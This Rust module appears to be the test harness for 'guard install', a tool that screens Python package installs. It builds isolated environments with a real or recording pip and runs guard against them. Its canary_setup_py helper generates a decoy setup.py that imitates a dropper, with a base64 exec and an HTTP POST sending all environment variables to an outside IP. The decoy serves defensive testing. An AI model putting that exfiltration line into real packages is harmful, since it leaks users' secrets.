//! The one isolated environment of the install tests: a temp dir holding a
//! project directory, a guard cache, an audit log and a Python, plus a local
//! index. Two modes: [`Pip::Real`] is a `python3 -m venv` with the real pip
//! (end-to-end installs), [`Pip::Recording`] is a python3 wrapper whose
//! `-m pip` records its argv, requirements file and find-links directory and
//! exits 0 (what pip would have installed, without installing).

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use super::Index;

/// Which pip the environment's Python runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Pip {
    /// A real virtualenv and the real pip.
    Real,
    /// A wrapper that records what `-m pip` was given, installing nothing.
    Recording,
}

pub struct Env {
    pub dir: tempfile::TempDir,
    pub index: Index,
    pub python: PathBuf,
    /// Created by the canary setup.py ([`canary_setup_py`]) if it ever runs.
    pub canary: PathBuf,
}

impl Env {
    /// An empty index, `project/` as the working directory, and a Python in `pip` mode.
    pub fn new(pip: Pip) -> Env {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("project")).unwrap();
        let python = match pip {
            Pip::Real => venv(&dir.path().join("venv")),
            Pip::Recording => recording_python(dir.path(), &dir.path().join("pip-capture")),
        };
        Env {
            canary: dir.path().join("CANARY"),
            index: Index::start(),
            python,
            dir,
        }
    }

    pub fn project(&self) -> PathBuf {
        self.dir.path().join("project")
    }

    pub fn cache(&self) -> PathBuf {
        self.dir.path().join("cache")
    }

    pub fn audit(&self) -> PathBuf {
        self.dir.path().join("audit.jsonl")
    }

    /// Where the recording pip writes (`argv`, `requirements.txt`, `links/`).
    pub fn capture(&self) -> PathBuf {
        self.dir.path().join("pip-capture")
    }

    /// The `guard install` command line (without the requirements).
    pub fn command(&self, extra: &[&str]) -> Command {
        let mut cmd = super::isolated_install(&self.index.url(), self.dir.path());
        cmd.current_dir(self.project())
            .arg("--python")
            .arg(&self.python)
            .arg("--cache-dir")
            .arg(self.cache())
            .args(["--timeout", "5"])
            .args(extra);
        cmd
    }

    /// Runs `guard install ARGS` without a terminal.
    pub fn guard(&self, args: &[&str]) -> Output {
        let _ = std::fs::remove_dir_all(self.capture());
        self.command(args).stdin(Stdio::null()).output().unwrap()
    }

    /// Runs guard under a pseudo-terminal (util-linux `script`), typing `answer`.
    pub fn guard_on_tty(&self, args: &[&str], answer: &str) -> (Option<i32>, String) {
        let cmd = self.command(args);
        let mut line = String::new();
        line.push_str(&shell_quote(cmd.get_program().to_str().unwrap()));
        for a in cmd.get_args() {
            line.push(' ');
            line.push_str(&shell_quote(a.to_str().unwrap()));
        }
        line.push_str("; echo \"guard-exit=$?\"");
        let mut script = Command::new("script");
        script.current_dir(self.project()).args(["-qec", &line, "/dev/null"]);
        for (k, v) in cmd.get_envs() {
            match v {
                Some(v) => script.env(k, v),
                None => script.env_remove(k),
            };
        }
        let mut child = script
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().unwrap();
            // Type the answer once the prompt is up; keep stdin open until guard exits.
            let answer = answer.to_string();
            std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_secs(4));
                let _ = stdin.write_all(answer.as_bytes());
                let _ = stdin.flush();
                std::thread::sleep(std::time::Duration::from_secs(60));
            });
        }
        let out = child.wait_with_output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let code = text.rsplit("guard-exit=").next().and_then(|s| s.trim().parse().ok());
        (code, text)
    }

    /// Whether the environment's Python can import `module`.
    pub fn imports(&self, module: &str) -> bool {
        Command::new(&self.python)
            .args(["-c", &format!("import {module}")])
            .current_dir(self.dir.path())
            .status()
            .unwrap()
            .success()
    }

    /// The requirements file the recording pip received, or `None` when pip never ran.
    pub fn pip_requirements(&self) -> Option<String> {
        std::fs::read_to_string(self.capture().join("requirements.txt")).ok()
    }

    /// A `setup.py` that creates [`Env::canary`] when run (and looks like a dropper).
    pub fn canary_setup_py(&self, name: &str) -> String {
        format!(
            "import os, base64, urllib.request\nopen({:?}, 'w').write('setup.py ran')\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name='{name}', version='1.0')\n",
            self.canary.display().to_string()
        )
    }
}

/// A new virtualenv at `dir`; its python.
pub fn venv(dir: &Path) -> PathBuf {
    let ok = Command::new("python3")
        .args(["-m", "venv"])
        .arg(dir)
        .status()
        .unwrap()
        .success();
    assert!(ok, "python3 -m venv failed");
    dir.join("bin").join("python")
}

/// A python3 wrapper whose `-m pip` records what it was given instead of installing.
fn recording_python(dir: &Path, capture: &Path) -> PathBuf {
    let path = dir.join("python");
    let script = format!(
        r#"#!/bin/sh
if [ "$1" = "-m" ] && [ "$2" = "pip" ]; then
    mkdir -p '{cap}'
    printf '%s\n' "$@" > '{cap}/argv'
    prev=""
    for a in "$@"; do
        case "$prev" in
            -r) cp "$a" '{cap}/requirements.txt' ;;
            --find-links) cp -r "$a" '{cap}/links' ;;
        esac
        prev="$a"
    done
    exit 0
fi
exec python3 "$@"
"#,
        cap = capture.display()
    );
    std::fs::write(&path, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// Exit status, stdout and stderr of a run, for assertion messages.
pub fn text(o: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}
